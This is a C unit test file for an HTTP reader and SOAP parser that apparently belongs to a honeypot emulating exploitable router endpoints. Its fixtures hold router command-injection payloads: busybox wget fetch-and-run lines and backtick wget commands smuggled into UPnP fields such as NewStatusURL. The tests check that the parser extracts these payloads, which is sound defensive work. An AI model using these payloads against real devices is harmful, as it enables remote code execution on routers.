/* test_http.c — the lenient HTTP request reader and the SOAP helpers of
 * the exploit doors. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "proto/door.h"
#include "proto/http.h"

static int setup(void **st)
{
	struct http_reader *r = calloc(1, sizeof(*r));

	http_init(r, 0);
	*st = r;
	return 0;
}

static int teardown(void **st)
{
	struct http_reader *r = *st;

	http_free(r);
	free(r);
	return 0;
}

static bool seq(const struct http_str *s, const char *lit)
{
	return s->n == strlen(lit) && !memcmp(s->p, lit, s->n);
}

static void feed_all(struct http_reader *r, const char *p)
{
	size_t n = strlen(p);

	assert_int_equal(http_feed(r, p, n), n);
}

#define SOAP "<s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(x)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>"

static void bare_request_without_host(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcd");
	assert_true(http_next(r, &q, false));
	assert_true(seq(&q.method, "POST"));
	assert_true(seq(&q.path, "/ctrlt/DeviceUpgrade_1"));
	assert_true(seq(&q.version, "HTTP/1.1"));
	assert_int_equal(q.content_length, 4);
	assert_true(seq(&q.body, "abcd"));
	assert_null(http_header(&q, "host"));
	assert_false(q.flushed);
	assert_false(http_next(r, &q, false));
	assert_false(http_pending(r));
}

/* 430 declared, more sent in the same write: the tail stays in the body. */
static void length_too_small(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "POST /x HTTP/1.1\r\nContent-Length: 10\r\n\r\n" SOAP "\r\n\r\n");
	assert_true(http_next(r, &q, false));
	assert_int_equal(q.body.n, strlen(SOAP) + 4);
	assert_false(http_next(r, &q, true));
}

/* 601 declared, less sent: nothing until a flush, then what came. */
static void length_too_large(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "POST /x HTTP/1.1\r\nContent-Length: 601\r\n\r\n" SOAP);
	assert_false(http_next(r, &q, false));
	assert_true(http_pending(r));
	assert_true(http_next(r, &q, true));
	assert_true(q.flushed);
	assert_int_equal(q.content_length, 601);
	assert_true(seq(&q.body, SOAP));
	assert_false(http_pending(r));
}

/* Too large, and the next request follows: it ends the body. */
static void length_too_large_then_request(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "POST /a HTTP/1.1\r\nContent-Length: 630\r\n\r\n" SOAP "\r\n"
		    "POST /b HTTP/1.1\r\nContent-Length: 3\r\n\r\nxyz");
	assert_true(http_next(r, &q, false));
	assert_true(seq(&q.path, "/a"));
	assert_true(seq(&q.body, SOAP "\r\n"));
	assert_true(http_next(r, &q, false));
	assert_true(seq(&q.path, "/b"));
	assert_true(seq(&q.body, "xyz"));
	assert_false(http_next(r, &q, true));
}

static void two_requests_one_buffer(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "\r\n\r\nGET /a HTTP/1.0\r\n\r\n\r\nGET /b HTTP/1.1\nUser-Agent:  x y \n\n");
	assert_true(http_next(r, &q, false));
	assert_true(seq(&q.path, "/a"));
	assert_int_equal(q.body.n, 0);
	assert_true(http_next(r, &q, false));
	assert_true(seq(&q.path, "/b"));
	assert_true(seq(http_header(&q, "USER-AGENT"), "x y"));
	assert_false(http_next(r, &q, false));
}

/* Byte-at-a-time feeding gives the same requests as one write. */
static void byte_at_a_time(void **st)
{
	struct http_reader *r = *st;
	static const char in[] =
		"POST /a HTTP/1.1\r\nSOAPAction: \"u#AddPortMapping\"\r\nContent-Length: 5\r\n\r\nhello"
		"GET /picsdesc.xml HTTP/1.1\r\n\r\n";
	struct http_req q;
	size_t i;
	int got = 0;

	for (i = 0; i < sizeof in - 1; i++) {
		assert_int_equal(http_feed(r, in + i, 1), 1);
		while (http_next(r, &q, false)) {
			if (got == 0) {
				assert_true(seq(&q.path, "/a"));
				assert_true(seq(&q.body, "hello"));
				assert_true(seq(http_header(&q, "soapaction"), "\"u#AddPortMapping\""));
			} else {
				assert_true(seq(&q.path, "/picsdesc.xml"));
			}
			got++;
		}
	}
	assert_int_equal(got, 2);
}

/* A POST without Content-Length waits for a flush (or the next request). */
static void post_without_length(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "POST / HTTP/1.1\r\n\r\n<a>");
	assert_false(http_next(r, &q, false));
	feed_all(r, "b</a>");
	assert_true(http_next(r, &q, true));
	assert_true(seq(&q.body, "<a>b</a>"));
	assert_int_equal(q.content_length, -1);
}

/* A head that never ends is delivered as it is on a flush. */
static void partial_head_flushed(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;

	feed_all(r, "GET /x HTTP/1.1\r\nHost: a");
	assert_false(http_next(r, &q, false));
	assert_true(http_next(r, &q, true));
	assert_true(q.flushed);
	assert_true(seq(&q.path, "/x"));
	assert_true(seq(http_header(&q, "host"), "a"));
}

static void empty_request_flag(void **st)
{
	struct http_reader r;
	struct http_req q;

	(void)st;
	http_init(&r, HTTP_F_EMPTY_REQ);
	assert_int_equal(http_feed(&r, "\r\n\r\n", 4), 4);
	assert_true(http_next(&r, &q, false));
	assert_int_equal(q.method.n, 0);
	assert_int_equal(q.version.n, 0);
	http_free(&r);
}

static void caps(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;
	char *big = malloc(CAP_HTTP_BODY * 2);
	size_t i, off;

	/* header count */
	feed_all(r, "GET / HTTP/1.1\r\n");
	for (i = 0; i < CAP_HTTP_HEADERS + 5; i++)
		feed_all(r, "X-A: b\r\n");
	feed_all(r, "\r\n");
	assert_true(http_next(r, &q, false));
	assert_int_equal(q.nhdrs, CAP_HTTP_HEADERS);
	assert_true(q.hdrs_cut);

	/* body: cut at the cap, the rest dropped */
	memset(big, 'A', CAP_HTTP_BODY * 2);
	feed_all(r, "POST / HTTP/1.1\r\nContent-Length: 40000\r\n\r\n");
	for (off = 0; off < CAP_HTTP_BODY * 2;) {
		size_t k = http_feed(r, big + off, CAP_HTTP_BODY * 2 - off);

		off += k;
		if (!k) {
			assert_true(http_next(r, &q, false));
			assert_true(q.body_cut);
			assert_int_equal(q.body.n, CAP_HTTP_BODY);
		}
	}
	assert_false(http_next(r, &q, true));

	/* head: cut at the cap */
	http_free(r);
	http_init(r, 0);
	memset(big, 'h', CAP_HTTP_HEAD + 10);
	feed_all(r, "GET /");
	assert_int_equal(http_feed(r, big, CAP_HTTP_HEAD + 10), CAP_HTTP_HEAD + 10);
	assert_true(http_next(r, &q, false));
	assert_true(q.head_cut);
	assert_true(q.path.n <= CAP_HTTP_HEAD);
	assert_int_equal(http_feed(r, "GET / HTTP/1.1\r\n\r\n", 18), 18);
	assert_false(http_next(r, &q, true)); /* dropped after a cut */
	free(big);
}

static void xml_entities(void **st)
{
	static const char in[] = "wget http://h/x&amp;y -O- &gt; /tmp/a &lt;&quot;&apos;&#59;&#x3b;&bogus; &#0; &";
	char out[sizeof in];
	size_t n;

	(void)st;
	n = door_xml_decode(in, sizeof in - 1, out, sizeof out);
	assert_int_equal(n, strlen("wget http://h/x&y -O- > /tmp/a <\"';;&bogus; &#0; &"));
	assert_memory_equal(out, "wget http://h/x&y -O- > /tmp/a <\"';;&bogus; &#0; &", n);
}

/* Numeric references at their limits: 8 hex / 9 decimal digits at most, a
 * code point at most U+10FFFF. Values up to 0xFFFFFFFF once went through a
 * `long`, which overflows where long is 32 bits (the MIPS targets). */
static void xml_numeric_limits(void **st)
{
	static const struct {
		const char *in, *out;
	} t[] = {
		{"&#x10FFFF;", "\xf4\x8f\xbf\xbf"},
		{"&#x0010ffff;", "\xf4\x8f\xbf\xbf"},
		{"&#x00000041;", "A"},
		{"&#000000065;", "A"},
		{"&#0000000065;", "&#0000000065;"},
		{"&#x000000041;", "&#x000000041;"},
		{"&#x110000;", "&#x110000;"},
		{"&#x7FFFFFFF;", "&#x7FFFFFFF;"},
		{"&#x80000041;", "&#x80000041;"},
		{"&#xFFFFFFFF;", "&#xFFFFFFFF;"},
		{"&#999999999;", "&#999999999;"},
		{"&#x41", "&#x41"},
		{"&#x;", "&#x;"},
		{"&#;", "&#;"},
		{"&#4a;", "&#4a;"},
	};
	char out[32];
	size_t i, n;

	(void)st;
	for (i = 0; i < sizeof t / sizeof *t; i++) {
		n = door_xml_decode(t[i].in, strlen(t[i].in), out, sizeof out);
		assert_int_equal(n, strlen(t[i].out));
		assert_memory_equal(out, t[i].out, n);
	}
}

static void commands_from_bodies(void **st)
{
	static const char hg[] =
		"<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/f -r /m; (echo a); /tmp/f huawei)</NewStatusURL>"
		"<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL><NewX></NewX><NewY>$( )</NewY>";
	static const char bad[] = "<NewStatusURL>$(cd /tmp && wget x)>NewStatusURL><NewDownloadURL>$(echo cut";
	static const char rt[] = "<NewInternalClient>`cd /tmp/; wget http://127.0.0.1/r`</NewInternalClient><NewEnabled>`unterminated</NewEnabled>";
	struct door_cmd c[CAP_HTTP_CMDS];
	size_t n;

	(void)st;
	n = door_commands(hg, sizeof hg - 1, c, CAP_HTTP_CMDS);
	assert_int_equal(n, 2);
	assert_memory_equal(c[0].p, "/bin/busybox wget -g 1.2.3.4 -l /tmp/f -r /m; (echo a); /tmp/f huawei", c[0].n);
	assert_string_equal(c[0].field, "NewStatusURL");
	assert_memory_equal(c[1].p, "echo HUAWEIUPNP", c[1].n);
	assert_string_equal(c[1].field, "NewDownloadURL");

	n = door_commands(bad, sizeof bad - 1, c, CAP_HTTP_CMDS);
	assert_int_equal(n, 2);
	assert_int_equal(c[0].n, strlen("cd /tmp && wget x"));
	assert_memory_equal(c[1].p, "echo cut", c[1].n);

	n = door_commands(rt, sizeof rt - 1, c, CAP_HTTP_CMDS);
	assert_int_equal(n, 2);
	assert_memory_equal(c[0].p, "cd /tmp/; wget http://127.0.0.1/r", c[0].n);
	assert_string_equal(c[0].field, "NewInternalClient");
	assert_memory_equal(c[1].p, "unterminated", c[1].n);
}

static void soap_action_names(void **st)
{
	struct http_reader *r = *st;
	struct http_req q;
	char a[64];

	(void)st;
	feed_all(r, "POST / HTTP/1.1\r\nSOAPAction: \"urn:x:1#AddPortMapping\"\r\nContent-Length: 0\r\n\r\n");
	assert_true(http_next(r, &q, false));
	assert_true(door_soap_action(&q, a, sizeof a));
	assert_string_equal(a, "AddPortMapping");
	feed_all(r, "POST / HTTP/1.1\r\nContent-Length: 30\r\n\r\n<s:Body>\n <u:Upgrade xmlns:u=1>");
	assert_true(http_next(r, &q, false));
	assert_true(door_soap_action(&q, a, sizeof a));
	assert_string_equal(a, "Upgrade");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(bare_request_without_host, setup, teardown),
		cmocka_unit_test_setup_teardown(length_too_small, setup, teardown),
		cmocka_unit_test_setup_teardown(length_too_large, setup, teardown),
		cmocka_unit_test_setup_teardown(length_too_large_then_request, setup, teardown),
		cmocka_unit_test_setup_teardown(two_requests_one_buffer, setup, teardown),
		cmocka_unit_test_setup_teardown(byte_at_a_time, setup, teardown),
		cmocka_unit_test_setup_teardown(post_without_length, setup, teardown),
		cmocka_unit_test_setup_teardown(partial_head_flushed, setup, teardown),
		cmocka_unit_test(empty_request_flag),
		cmocka_unit_test_setup_teardown(caps, setup, teardown),
		cmocka_unit_test(xml_entities),
		cmocka_unit_test(xml_numeric_limits),
		cmocka_unit_test(commands_from_bodies),
		cmocka_unit_test_setup_teardown(soap_action_names, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
